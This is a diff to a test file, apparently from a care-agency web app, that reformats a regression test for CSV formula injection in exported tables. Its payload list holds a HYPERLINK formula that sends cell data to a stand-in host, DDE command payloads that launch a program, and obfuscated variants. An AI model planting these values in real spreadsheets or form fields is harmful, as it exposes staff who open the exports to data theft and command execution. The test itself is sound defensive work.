@@ -21,7 +21,15 @@ afterAll(async () => {
 });
 
 const hostile = [
-  '=HYPERLINK("http://x.example/?"&A1,"Click")', '+1+cmd|\'/C calc\'!A0', '-2+3+cmd|\'/C calc\'!A0', '@SUM(1+1)*cmd|\'/C calc\'!A0', '=1+1', '＝1+1', '\u00a0=1+1', '"=1+1"', '"\n=1+1',
+  '=HYPERLINK("http://x.example/?"&A1,"Click")',
+  "+1+cmd|'/C calc'!A0",
+  "-2+3+cmd|'/C calc'!A0",
+  "@SUM(1+1)*cmd|'/C calc'!A0",
+  '=1+1',
+  '＝1+1',
+  '\u00a0=1+1',
+  '"=1+1"',
+  '"\n=1+1',
 ];
 
 /** What a spreadsheet takes for a formula at the beginning of a cell. */
@@ -29,33 +37,72 @@ const runs = /^[\s"]*[=+\-@＝＋－＠\t\r]/;
 const aNumber = /^-?\d+(\.\d+)?$/;
 
 it('no form can put a formula into what the office opens', async () => {
-  const staff = await app.services.sessions.open((await makeUser(app.database.orm.em.fork(), { role: 'staff' })).id);
+  const staff = await app.services.sessions.open(
+    (await makeUser(app.database.orm.em.fork(), { role: 'staff' })).id,
+  );
   for (const [index, text] of hostile.entries()) {
     const name = text.slice(0, 100);
     const contact = await app.graph<{ submitContactInquiry: { userErrors: unknown[] } }>(
       'mutation ($input: ContactInquiryInput!) { submitContactInquiry(input: $input) { userErrors { message } } }',
-      { input: { firstName: name, lastName: name, email: `c${index}@example.com`, message: `${text} ; ${text};=1+1\t=1+1\n=1+1` } });
+      {
+        input: {
+          firstName: name,
+          lastName: name,
+          email: `c${index}@example.com`,
+          message: `${text} ; ${text};=1+1\t=1+1\n=1+1`,
+        },
+      },
+    );
     expect(contact.data.submitContactInquiry.userErrors).toEqual([]);
-    const admitted = await app.graph<{ admitClient: { client: { id: string }; userErrors: unknown[] } }>(
+    const admitted = await app.graph<{
+      admitClient: { client: { id: string }; userErrors: unknown[] };
+    }>(
       'mutation ($input: AdmitClientInput!) { admitClient(input: $input) { client { id } userErrors { message } } }',
-      { input: { firstName: name, lastName: name, email: `a${index}@example.com`, address: text, medicalNotes: text, careNotes: text } }, staff);
+      {
+        input: {
+          firstName: name,
+          lastName: name,
+          email: `a${index}@example.com`,
+          address: text,
+          medicalNotes: text,
+          careNotes: text,
+        },
+      },
+      staff,
+    );
     expect(admitted.data.admitClient.userErrors).toEqual([]);
     const written = await app.graph<{ writeCareUpdate: { userErrors: unknown[] } }>(
       'mutation ($input: WriteCareUpdateInput!) { writeCareUpdate(input: $input) { userErrors { message } } }',
-      { input: { clientId: admitted.data.admitClient.client.id, updateType: name, title: text, content: text } }, staff);
+      {
+        input: {
+          clientId: admitted.data.admitClient.client.id,
+          updateType: name,
+          title: text,
+          content: text,
+        },
+      },
+      staff,
+    );
     expect(written.data.writeCareUpdate.userErrors).toEqual([]);
   }
-  const invoice = await makeInvoice(app.database.orm.em.fork(), { items: [{ quantity: '1.00', rate: '12.50', serviceDescription: hostile[0] }] });
+  const invoice = await makeInvoice(app.database.orm.em.fork(), {
+    items: [{ quantity: '1.00', rate: '12.50', serviceDescription: hostile[0] }],
+  });
   await makePayment(app.database.orm.em.fork(), { invoice, amount: '-12.50', reason: hostile[2] });
 
   const files = await exportTables(app.database, folder);
   let seen = 0;
   for (const { name } of files) {
     const text = await readFile(join(folder, name), 'utf8');
-    for (const cell of (parse(text, { bom: true }) as unknown as string[][]).flat()) if (!aNumber.test(cell)) expect([name, cell]).toEqual([name, expect.not.stringMatching(runs)]);
+    for (const cell of (parse(text, { bom: true }) as unknown as string[][]).flat())
+      if (!aNumber.test(cell))
+        expect([name, cell]).toEqual([name, expect.not.stringMatching(runs)]);
     seen += hostile.filter((formula) => text.includes(formula.replaceAll('"', '""').trim())).length;
   }
   expect(seen).toBeGreaterThan(3 * hostile.length);
-  const [payment] = parse(await readFile(join(folder, 'payments.csv')), { bom: true, columns: true }) as unknown as { amount: string; reason: string }[];
+  const [payment] = parse(await readFile(join(folder, 'payments.csv')), {
+    bom: true,
+    columns: true,
+  }) as unknown as { amount: string; reason: string }[];
   expect(payment).toMatchObject({ amount: '-12.50', reason: `'${hostile[2]}` });
 });
